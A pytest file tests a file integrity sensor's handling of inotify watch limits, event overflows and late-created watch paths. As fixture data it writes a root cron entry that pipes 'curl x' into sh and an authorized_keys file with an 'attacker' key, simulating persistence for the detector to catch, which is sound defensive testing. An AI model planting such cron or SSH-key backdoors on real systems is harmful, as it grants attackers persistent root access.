"""The file integrity sensor when inotify lets it down: watch limit reached, events lost in an overflow."""

from __future__ import annotations

import logging
from collections.abc import Callable
from pathlib import Path

import pytest

from agent.sensors.base import Observation
from agent.sensors.file_integrity import FileIntegrityConfig, FileIntegritySensor
from agent.sensors.file_integrity import watcher as watcher_module
from tests.unit.agent.sensors.harness import running


def created(path: Path) -> Callable[[Observation], bool]:
    return lambda o: o.action == "creation" and o.fields["file"]["path"] == str(path)


async def test_watch_limit_degrades_to_periodic_rescans(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(self: watcher_module.ChangeWatcher) -> None:
        raise watcher_module.WatchLimitReached("[Errno 28] inotify watch limit reached")

    monkeypatch.setattr(watcher_module.ChangeWatcher, "start", refuse)
    watched = tmp_path / "www"
    watched.mkdir()
    config = FileIntegrityConfig(paths=[watched], exclude=[], fallback_rescan_interval_s=0.3)
    sensor = FileIntegritySensor(config, tmp_path / "state")
    async with running(sensor) as seen:
        health = sensor.health()
        assert health.status == "degraded"
        assert health.detail is not None
        assert "watch limit" in health.detail
        (watched / "new.php").write_text("x")
        await seen.wait_for(created(watched / "new.php"), within_s=5)


async def test_an_inotify_overflow_triggers_a_rescan(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    watched = tmp_path / "etc"
    watched.mkdir()
    sensor = FileIntegritySensor(
        FileIntegrityConfig(paths=[watched], exclude=[], debounce_s=0.1), tmp_path / "s"
    )
    async with running(sensor) as seen:
        # Every inotify event is lost from here on, as in a queue overflow.
        monkeypatch.setattr(watcher_module._Forwarder, "on_any_event", lambda self, event: None)
        (watched / "cron.d").write_text("* * * * * root curl x | sh")
        assert await seen.settle(quiet_s=0.6) == []
        scans = sensor.scans_completed
        logging.getLogger("watchdog.observers.inotify_c").warning(
            "Inotify queue overflowed; events were lost"
        )
        await seen.wait_for(created(watched / "cron.d"), within_s=5)
        assert sensor.scans_completed == scans + 1


async def test_a_root_created_after_start_is_watched_after_the_next_scan(tmp_path: Path) -> None:
    ssh = tmp_path / "root" / ".ssh"
    config = FileIntegrityConfig(paths=[ssh], exclude=[], debounce_s=0.1, rescan_interval_s=1.5)
    sensor = FileIntegritySensor(config, tmp_path / "state")
    async with running(sensor) as seen:
        assert sensor.health().detail == f"paths absent: {ssh}"
        ssh.mkdir(parents=True)
        (ssh / "authorized_keys").write_text("ssh-ed25519 AAAA attacker")
        await seen.wait_for(created(ssh / "authorized_keys"), within_s=5)  # found by a scan
        assert sensor.health().detail is None
        scans = sensor.scans_completed
        (ssh / "id_ed25519").write_text("key")
        await seen.wait_for(created(ssh / "id_ed25519"), within_s=1)  # well before the next scan
        assert sensor.scans_completed == scans
